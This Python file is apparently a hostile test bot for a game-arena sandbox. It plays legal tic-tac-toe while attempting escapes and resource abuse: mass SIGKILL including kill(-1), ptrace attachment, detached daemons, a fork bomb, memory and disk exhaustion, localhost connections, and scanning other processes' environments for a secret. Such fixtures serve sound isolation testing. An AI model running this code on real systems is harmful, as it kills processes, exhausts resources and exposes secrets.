#!/usr/bin/env python3
"""A tic-tac-toe bot that plays legal moves and attacks on the side (arena/tests/sandbox.rs).

The attacks to try are named in the environment variable ATTACKS (comma separated); each
one reports on stderr as `ATTACK <name> blocked|SUCCEEDED <detail>`, which the test reads
from the engine's stderr log. The harm itself is judged from outside by the test: the
victim's games, the host's processes, files and listeners.

Parameters (environment): MARKER (a word the test looks for in the host's process list
and file names), PORT (a TCP port listening on 127.0.0.1 and ::1), SERVE_PORT (a running
`arena serve`), ABSTRACT (an abstract unix socket name), READ (paths to try to read,
separated by ':'), SECRET_REVERSED (text to look for, reversed, in every visible process's command line
and environment), HOLD (processes to keep), MEMORY_CHILDREN, BIG_WRITE_MIB, MOVE_DELAY
(seconds to wait before each move).
"""
import ctypes
import os
import signal
import socket
import subprocess
import sys
import time

LINES = [(0, 1, 2), (3, 4, 5), (6, 7, 8), (0, 3, 6), (1, 4, 7), (2, 5, 8), (0, 4, 8), (2, 4, 6)]
PREFERENCE = [4, 0, 2, 6, 8, 1, 3, 5, 7]
ENV = os.environ
MARKER = ENV.get("MARKER", "hostile-marker")
KEEP = []  # children kept alive on purpose


def report(name, succeeded, detail=""):
    verdict = "SUCCEEDED" if succeeded else "blocked"
    print(f"ATTACK {name} {verdict} {detail}", file=sys.stderr, flush=True)


FAMILY = f"HOSTILE_FAMILY={os.getpid()}"
os.environ["HOSTILE_FAMILY"] = str(os.getpid())  # inherited by everything it starts


def family():
    """What this bot started (its children and daemons carry its mark in their
    environment, and descend from it until they are reparented), and the PID 1 of its own
    box: signalling those harms nobody else."""
    mine = {1, os.getpid()}
    parents = {}
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open(f"/proc/{p}/stat") as f:
                parents[int(p)] = int(f.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{p}/environ", "rb") as f:
                if FAMILY.encode() in f.read().split(b"\0"):
                    mine.add(int(p))
        except (OSError, ValueError, IndexError):
            pass
    grew = True
    while grew:
        grew = False
        for pid, parent in parents.items():
            if parent in mine - {1} and pid not in mine:
                mine.add(pid)
                grew = True
    return mine


def visible_others():
    mine = family()
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in mine]


def attack_signal():
    """Signal or trace any process outside its own box: visible ones, then blind."""
    reached = []
    mine = family()
    for pid in range(2, 50000):
        if pid in mine:
            continue
        try:
            os.kill(pid, 0)  # permission check only
            reached.append(pid)
        except OSError:
            pass
    if reached:
        # A child of its own caught in exec a moment ago: look again.
        time.sleep(0.1)
        mine = family()
        reached = [pid for pid in reached if pid not in mine]
    # Trace before killing: its own processes that the kill below is ending have lost
    # their environment (and so their mark) while they die, yet can still be attached,
    # and were taken for strangers (the userns test failed one run in three that way).
    libc = ctypes.CDLL(None, use_errno=True)
    traced = [pid for pid in visible_others() if libc.ptrace(16, pid, 0, 0) == 0]  # PTRACE_ATTACH
    for pid in traced:
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    # A process of its own caught between fork and exec may have been taken for a
    # stranger: only a process that is still not of its family once traced counts.
    traced = [pid for pid in traced if pid not in family()]
    for pid in reached:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process it may signal, but itself
    except OSError:
        pass
    def cmdline(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                return f.read().replace(b"\0", b" ").decode(errors="replace")[:60]
        except OSError as e:
            return str(e)
    report("signal", bool(reached), f"reachable pids {[(p, cmdline(p)) for p in reached[:10]]}")
    report("ptrace", bool(traced), f"attached to {[(p, cmdline(p)) for p in traced]}")


def attack_daemon():
    """A double-forked setsid daemon and a setpgid child, both meant to outlive the game."""
    code = "import time\nwhile True: time.sleep(0.2)"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code, MARKER + "-daemon"])
        os._exit(0)
    os.wait()
    if os.fork() == 0:
        os.setpgid(0, 0)
        os.execv(sys.executable, [sys.executable, "-c", code, MARKER + "-pgid"])
    report("daemon", False, "started (judged from outside)")


def attack_memory():
    """Children that each touch 400 MiB: together far over the box's limit."""
    for _ in range(int(ENV.get("MEMORY_CHILDREN", "5"))):
        pid = os.fork()
        if pid == 0:
            block = bytearray(400 << 20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(60)
            os._exit(0)
        KEEP.append(pid)
    # Wait until the kernel has ended one of them (or the arena the whole box), so that
    # the outcome does not depend on how loaded the machine is.
    until = time.time() + 30
    while time.time() < until and all(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in KEEP):
        time.sleep(0.01)
    report("memory", False, "children started (judged from outside)")


def attack_hold():
    """Keep many processes, as if to starve an opponent that shares a process limit."""
    n = int(ENV.get("HOLD", "29"))
    for _ in range(n):
        KEEP.append(subprocess.Popen(["sleep", "60"]))
    report("hold", False, f"holding {n} processes")


def attack_forkbomb():
    started = 0
    try:
        for _ in range(10000):
            KEEP.append(subprocess.Popen(["sleep", "60"]))
            started += 1
    except OSError as e:
        report("forkbomb", False, f"stopped after {started}: {e}")
        return
    report("forkbomb", True, f"started {started}")


def attack_spin():
    """A child that spins for ever, and the bot itself spinning for SPIN seconds of CPU
    time (measured by itself, so that a loaded machine only makes it take longer)."""
    if os.fork() == 0:
        while True:
            pass
    spin = float(ENV.get("SPIN", "0"))
    while time.process_time() < spin:
        pass
    report("spin", False, "spinning child started")


def attack_files():
    """Leave files in /tmp and /dev/shm, then fill /dev/shm past the file-size limit."""
    left = []
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, MARKER), "wb") as f:
                f.write(b"x" * (1 << 20))
            left.append(folder)
        except OSError as e:
            report("files", False, f"{folder}: {e}")
    report("files", False, f"wrote {MARKER} in {left} (judged from outside)")


def attack_bigwrite():
    """Fill /dev/shm past the file-size limit; the error is not caught (the bot dies)."""
    big = int(ENV.get("BIG_WRITE_MIB", "120"))
    with open("/dev/shm/" + MARKER + "-big", "wb") as f:
        for _ in range(big):
            f.write(b"y" * (1 << 20))
    report("bigwrite", True, f"wrote {big} MiB to /dev/shm")


def attack_network():
    port = int(ENV.get("PORT", "0"))
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
        if not port:
            break
        try:
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(1)
            s.connect((host, port))
            s.sendall(b"hello from the box\n")
            report("tcp", True, f"connected to {host}:{port}")
        except OSError as e:
            report("tcp", False, f"{host}:{port}: {e}")
    serve = int(ENV.get("SERVE_PORT", "0"))
    if serve:
        body = b'{"game":"tictactoe","p1":"human","p2":"agon"}'
        request = (
            b"POST /api/play HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/json\r\n"
            b"Content-Length: %d\r\nConnection: close\r\n\r\n" % (serve, len(body))
        ) + body
        try:
            s = socket.create_connection(("127.0.0.1", serve), timeout=1)
            s.sendall(request)
            report("serve", True, s.recv(200).decode(errors="replace").splitlines()[0])
        except OSError as e:
            report("serve", False, f"127.0.0.1:{serve}: {e}")
    name = ENV.get("ABSTRACT")
    if name:
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect("\0" + name)
            report("abstract", True, f"connected to @{name}")
        except OSError as e:
            report("abstract", False, f"@{name}: {e}")


def attack_read():
    for path in filter(None, ENV.get("READ", "").split(":")):
        try:
            with open(path, "rb") as f:
                data = f.read(100)
            report("read", True, f"{path}: {data[:40]!r}")
        except OSError as e:
            report("read", False, f"{path}: {e}")
    # Given reversed, so that its own environment does not hold it.
    secret = ENV.get("SECRET_REVERSED", "")[::-1].encode()
    if secret:
        found = []
        for pid in os.listdir("/proc"):
            if not pid.isdigit():
                continue
            for part in ("cmdline", "environ"):
                try:
                    with open(f"/proc/{pid}/{part}", "rb") as f:
                        if secret in f.read():
                            found.append(f"{pid}/{part}")
                except OSError:
                    pass
        report("secret", bool(found), f"found in {found}")


ATTACKS = {
    "signal": attack_signal,
    "daemon": attack_daemon,
    "memory": attack_memory,
    "hold": attack_hold,
    "forkbomb": attack_forkbomb,
    "spin": attack_spin,
    "files": attack_files,
    "bigwrite": attack_bigwrite,
    "network": attack_network,
    "read": attack_read,
}


def attack_all():
    for name in filter(None, ENV.get("ATTACKS", "").split(",")):
        if name == "bigwrite":
            ATTACKS[name]()  # its error ends the bot, as in a bot that did not expect it
            continue
        try:
            ATTACKS[name]()
        except Exception as e:  # an attack that fails is a blocked attack
            report(name, False, f"{type(e).__name__}: {e}")


def square(text):
    return (int(text[1]) - 1) * 3 + (ord(text[0]) - ord("a"))


def name(sq):
    return "abc"[sq % 3] + str(sq // 3 + 1)


def winner(board):
    for a, b, c in LINES:
        if board[a] and board[a] == board[b] == board[c]:
            return board[a]
    return None


def best_move(board, me):
    free = [sq for sq in range(9) if not board[sq]]
    if not free or winner(board):
        return None
    other = "o" if me == "x" else "x"
    for player in (me, other):
        for sq in free:
            board[sq] = player
            won = winner(board) == player
            board[sq] = None
            if won:
                return sq
    return next(sq for sq in PREFERENCE if sq in free)


def say(line):
    print(line, flush=True)


attack_all()
board, me, attacked = [None] * 9, "x", False
for line in sys.stdin:
    words = line.split()
    if not words:
        continue
    if words[0] in ("ugi", "uci"):
        say("id name HostileBot")
        say(words[0] + "ok")
    elif words[0] == "isready":
        say("readyok")
    elif words[0] == "position":
        board = [None] * 9
        moves = words[words.index("moves") + 1:] if "moves" in words else []
        for i, mv in enumerate(moves):
            board[square(mv)] = "x" if i % 2 == 0 else "o"
        me = "x" if len(moves) % 2 == 0 else "o"
    elif words[0] == "go":
        if not attacked and "signal" in ENV.get("ATTACKS", ""):
            attack_signal()  # again, while the opponent is surely running
        attacked = True
        time.sleep(float(ENV.get("MOVE_DELAY", "0")))
        sq = best_move(board, me)
        say("bestmove " + (name(sq) if sq is not None else "none"))
    elif words[0] == "quit":
        break
